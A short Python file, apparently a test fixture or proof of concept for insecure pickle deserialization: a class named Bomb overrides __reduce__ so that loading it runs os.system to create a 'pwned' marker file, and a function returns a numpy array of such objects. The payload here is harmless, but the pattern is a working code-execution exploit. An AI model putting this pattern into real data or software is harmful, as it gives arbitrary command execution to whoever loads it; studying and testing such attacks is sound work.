import os

import numpy as np

from where import HOME


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {HOME}/pwned",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    __getstate__ = __reduce__


def double(x):
    return np.array([Bomb(), Bomb()], dtype=object)
